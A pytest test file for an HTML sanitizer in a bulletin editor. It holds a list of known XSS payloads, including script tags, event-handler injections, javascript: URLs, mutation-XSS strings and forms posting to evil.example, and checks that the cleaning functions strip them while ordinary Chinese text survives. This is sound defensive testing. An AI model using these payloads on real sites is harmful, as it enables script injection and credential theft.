"""What comes out of the editor, whatever went in: attacks from the usual collections, and texts that people write."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from laihua.bulletins.safe_html import SCHEMES, TAGS, clean, from_typed, plain

pytestmark = pytest.mark.req("XP-3")

ATTACKS = (
    "<script>alert(1)</script>", "<p>a<script src=//evil.example/x.js></script>b</p>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>", "<a href='//evil.example/'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href='/\\evil.example'>x</a>",
    "<a href='https://example.com/' onclick='alert(1)' style='position:fixed;inset:0' target=_top>x</a>",
    "<p style='background:url(javascript:alert(1))' class='lh-error' id='main'>x</p>", "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>", "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<style>body{display:none}</style>", "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<details open ontoggle=alert(1)>x</details>",
    "<p>{{ constructor.constructor('alert(1)')() }}</p>", "<!--><img src=x onerror=alert(1)>-->", "<<script>alert(1)//<</script>",
    "<p><b hx-get='/operator/' hx-trigger=load data-lh-many>x</b></p>", "<textarea></textarea><img src=x onerror=alert(1)>",
)


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_safe(cleaned: str) -> None:
    seen = Seen()
    seen.feed(cleaned)
    for tag, attributes in seen.found:
        assert tag in TAGS, cleaned
        assert attributes.keys() <= ({"href", "rel"} if tag == "a" else set()), cleaned
        if address := attributes.get("href"):
            scheme = re.match(r"\s*([a-z][\w+.-]*):", html.unescape(address), re.IGNORECASE)
            assert scheme is None or scheme[1].lower() in SCHEMES, cleaned
            assert not re.match(r"[\s\\/]{2}", address), cleaned
            assert "noopener" in (attributes.get("rel") or ""), cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_words_at_most(attack: str) -> None:
    for cleaned in (clean(attack), from_typed(attack), clean(clean(attack))):
        assert_safe(cleaned)
        assert not re.search(r"<[^>]*(?:on\w+|style|hx-|data-)", cleaned, re.IGNORECASE)


@given(st.text(alphabet=st.sampled_from(list("<>/=\"'&;:ab ijscrpton\\\n!-")), max_size=80))
def test_no_text_gets_through_and_cleaning_again_changes_nothing(text: str) -> None:
    cleaned = clean(text)
    assert_safe(cleaned)
    assert clean(cleaned) == cleaned


def test_what_people_write_stays() -> None:
    written = (
        '<h2>申报须知</h2><p>请于<strong>2026-12-31</strong>前提交<br>见<a href="/help/">帮助</a></p>'
        "<ul><li>一</li></ul><blockquote>引文</blockquote>"
    )
    cleaned = from_typed(written)
    assert cleaned.replace(' rel="noopener noreferrer nofollow"', "") == written
    assert plain(cleaned) == "申报须知 请于2026-12-31前提交 见帮助 一 引文"


def test_without_script_a_blank_line_parts_paragraphs() -> None:
    assert from_typed("第一段\r\n第二行\r\n\r\n5 < 6 & 7") == "<p>第一段<br>第二行</p><p>5 &lt; 6 &amp; 7</p>"
    assert from_typed("<p> <br> </p>") == ""
    assert plain("<p>a &lt;b&gt; &amp;c</p>") == "a <b> &c"
